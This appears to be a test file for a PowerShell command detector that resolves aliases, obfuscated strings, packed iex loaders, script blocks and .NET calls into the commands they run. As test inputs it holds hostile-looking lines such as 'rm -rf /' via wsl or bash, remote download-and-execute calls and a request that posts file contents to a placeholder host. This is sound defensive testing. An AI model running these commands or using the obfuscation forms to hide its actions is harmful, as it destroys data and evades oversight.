"""PowerShell: words, values, blocks, and text that is run as code."""

import base64
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.detection.windows.understood import commands, evaluated

from defenseclaw.detection.facts import UNKNOWN


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("ri x", [("remove-item", "x")]),
        ("RI 'a b'", [("remove-item", "a b")]),
        ("gc 'it''s'", [("get-content", "it's")]),
        ('gc "a`tb"', [("get-content", "a\tb")]),
        ("Get-Con`tent x", [("get-con\tent", "x")]),
        ("Get-C`ontent x", [("get-content", "x")]),
        ("gc a`\n b", [("get-content", "a", "b")]),
        ("gc a # b", [("get-content", "a")]),
        ("gc <# b #> a", [("get-content", "a")]),
        ("gc a;ri b", [("get-content", "a"), ("remove-item", "b")]),
        ("gc a && ri b || ri c", [("get-content", "a"), ("remove-item", "b"), ("remove-item", "c")]),
        ("gc a,b", [("get-content", "a", "b")]),
        ("gc -Path:a", [("get-content", "-Path", "a")]),
        ("ri x -Force:$false", [("remove-item", "x")]),
        ("ri x -Force:$true", [("remove-item", "x", "-Force")]),
        ("& 'C:\\a b\\x.exe' y", [("x", "y")]),
        ("C:\\Windows\\System32\\cmd.exe /c x", [("cmd", "/c", "x")]),
        ('git commit -m "a\'b"', [("git", "commit", "-m", "a'b")]),
        ("echo --% a | b", [("echo", "a"), ("b",)]),
        ("ri @'\na b\n'@", [("remove-item", "a b")]),
        ('$x="q"; ri @"\na $x\n"@', [("remove-item", "a q")]),
        ("gc a , b 'c' ,\"d\"", [("get-content", "a", "b", "c", "d")]),
        ("gc a 2> b c", [("get-content", "a", "c")]),
        ("gc a#b #c", [("get-content", "a#b")]),
        ("gc a.b --% $c 'd'", [("get-content", "a.b", "$c", "'d'")]),
        ("gc $true.b.c $null", [("get-content", UNKNOWN, "")]),
        ("& { ri 'abc", [("remove-item", "abc")]),
    ],
)
def test_words(source, expected):
    assert commands(source) == expected


WORDS = st.sampled_from(
    [
        *("gc", "ri", "a.txt", "C:\\a\\b", "-Path", "-Path:x", "[int]", "1", "else", "`n", "\u2013a"),
        *("'a b'", '"c"', '"$x.y"', "$x", "$x.y", "$(1)", "@x"),
        *("2>", ">", ",", "a,b", "|", ";", "{", "}", "(", ")", "=", "=="),
    ]
)


@given(st.lists(WORDS, min_size=1, max_size=8))
def test_an_empty_comment_between_words_changes_nothing(words):
    # A block is given on with the comments in it.
    commented = [each.text.replace(" <##> ", " ") for each in evaluated(" <##> ".join(words)).commands]
    assert [each.text for each in evaluated(" ".join(words)).commands] == commented


@pytest.mark.parametrize(
    ("source", "word"),
    [
        ("$a = 'x'; ri $a", "x"),
        ("$a = 'x'; ri \"$a.txt\"", "x.txt"),
        ("$a = 'x'; ri \"${a}y\"", "xy"),
        ("$a = 'x'; $a += 'y'; ri $a", "xy"),
        ("ri \"$('x' + 'y')\"", "xy"),
        ("ri ('x' + 'y')", "xy"),
        ("ri ('x','y' -join '/')", "x/y"),
        ("ri (-join ('x','y'))", "xy"),
        ("ri ('{1}{0}' -f 'y','x')", "xy"),
        ("ri ([char]120 + [char]0x79)", "xy"),
        ("ri ([string]::Join('', ('x','y')))", "xy"),
        ("ri ('zy' -replace 'z','x')", "xy"),
        ("ri 'zy'.Replace('z','x')", "zy.Replace"),
        ("ri ('zy'.Replace('z','x'))", "xy"),
        ("ri ('yx'[1,0] -join '')", "xy"),
        ("ri ('ayxb'.Substring(1,2)[-1..-2] -join '')", "xy"),
        ("ri (120,121 | % { [char]$_ })[0]", "x"),
        ("ri ((120,121 | % { [char]$_ }) -join '')", "xy"),
        ("ri ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eHk=')))", "xy"),
        ("ri $env:USERPROFILE", "/home/ada"),
        ("ri $env:SystemRoot", "C:\\Windows"),
        ("$env:X = 'q'; ri $env:X", "q"),
        ("Set-Variable a x; ri $a", "x"),
        ("ri (gv a* -ValueOnly)", UNKNOWN),
        ("ri $unknown", UNKNOWN),
        ("$h = @{k='x'}; ri $h.k", "x"),
        ("ri (Join-Path a b)", "a/b"),
    ],
)
def test_values(source, word):
    assert commands(source)[-1][1] == word


def test_a_packed_script_is_read():
    packer = zlib.compressobj(wbits=-15)
    packed = base64.b64encode(packer.compress(b"ri x") + packer.flush()).decode()
    source = (
        "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{packed}'), "
        "[IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()"
    )
    assert ("remove-item", "x") in commands(source)


@pytest.mark.parametrize(
    "source",
    [
        "iex 'ri x'",
        "Invoke-Expression -Command 'ri x'",
        "'ri x' | iex",
        "& 'iex' 'ri x'",
        "&('i'+'ex') 'ri x'",
        ". iex 'ri x'",
        "& (gcm *ke-ex*) 'ri x'",
        "sal q iex; q 'ri x'",
        "& { ri x }",
        ".{ ri x }",
        "if (1) { ri x } else { gc y }",
        "while (1) { ri x; break }",
        "foreach ($i in 'x') { ri $i }",
        "for ($i=0; $i -lt 1; $i++) { ri x }",
        "switch (1) { 1 { ri x } default { gc y } }",
        "try { ri x } catch { gc y }",
        "'x' | % { ri $_ }",
        "'x' | foreach { ri $_ }",
        "function f($a) { ri $args }; f x",
        "function f { function f { ri x }; f }; f",
        "function gc { ri x }; gc y",
        "$b = { ri x }; & $b",
        "$b = { ri x }; $b.Invoke()",
        "[scriptblock]::Create('ri x').Invoke()",
        "Invoke-Command { ri x }",
        "Start-Job -ScriptBlock { ri x }",
        "return ri x",
        "$a = ri x",
        "[void](ri x)",
        "iex \"iex 'ri x'\"",
    ],
)
def test_what_runs_is_a_command(source):
    assert ("remove-item", "x") in commands(source)


@pytest.mark.parametrize(
    "source",
    [
        "$b = { ri x }",
        "'ri x'",
        "# ri x",
        "<# ri x #>",
        "Write-Host 'ri x'",
        "function f { ri x }",
        "$a = 'ri x'",
    ],
)
def test_what_does_not_run_is_none(source):
    assert ("remove-item", "x") not in commands(source)


@pytest.mark.parametrize(
    ("source", "program", "words"),
    [
        (
            "(New-Object Net.WebClient).DownloadString('http://a.example.net')",
            "invoke-webrequest",
            "-Uri http://a.example.net",
        ),
        (
            "[Net.WebClient]::new().DownloadFile('http://a.example.net', 'x')",
            "invoke-webrequest",
            "-Uri http://a.example.net -OutFile x",
        ),
        ("[IO.File]::ReadAllText('x')", "get-content", "x"),
        ("[System.IO.File]::Delete('x')", "remove-item", "x"),
        ("[IO.Directory]::Delete('x', $true)", "remove-item", "x -Recurse -Force"),
        ("[Diagnostics.Process]::Start('cmd', '/c x')", "start-process", "cmd -ArgumentList /c x"),
        ("(New-Object -ComObject WScript.Shell).Run('cmd /c x')", "start-process", "cmd /c x"),
    ],
)
def test_classes_of_dotnet_act_like_cmdlets(source, program, words):
    found = evaluated(source).commands[-1]
    assert (found.program, " ".join(found.argv[1:])) == (program, words)


def test_a_pipeline_has_a_number_and_places():
    first, second, third = evaluated("gc a | sls b; ri c").commands
    assert (first.pipeline, first.position, second.pipeline, second.position) == (1, 0, 1, 1)
    assert third.pipeline == 0


def test_output_in_a_variable_is_a_substitution_of_what_uses_it():
    source, reader = evaluated("$a = gc x; iwr -Uri http://a.example.net -Body $a").commands
    assert (source.context, source.parent) == ("substitution", reader.id)


def test_redirections():
    (found,) = evaluated("gc x > y 2>&1 3>$null").commands
    assert [(each.access, each.target) for each in found.redirects] == [
        ("write", "y"),
        ("dup", "1"),
        ("write", "/dev/null"),
    ]


@pytest.mark.parametrize(
    ("source", "program"),
    [
        ("rm -rf x", "rm"),
        ("rm -Recurse x", "remove-item"),
        ("rm C:\\x", "remove-item"),
        ("cat x", "cat"),
        ("curl -s http://a.example.net", "curl"),
        ("curl -Uri http://a.example.net", "invoke-webrequest"),
        ("wget -OutFile x http://a.example.net", "invoke-webrequest"),
        ("ls", "ls"),
    ],
)
def test_names_that_are_programs_elsewhere_are_told_apart_by_their_parameters(source, program):
    assert evaluated(source).commands[0].program == program


@pytest.mark.parametrize("source", ["wsl rm -rf /", "bash -c 'rm -rf /'", "wsl -d u -- sh -c 'rm -rf /'"])
def test_other_shells_are_looked_into(source):
    assert ("rm", "-rf", "/") in commands(source)


def test_a_home_of_windows():
    found = evaluated("gc ~\\x; gc $HOME\\y", home="C:\\Users\\ada").commands
    assert [each.argv[1] for each in found] == ["~\\x", "C:\\Users\\ada\\y"]
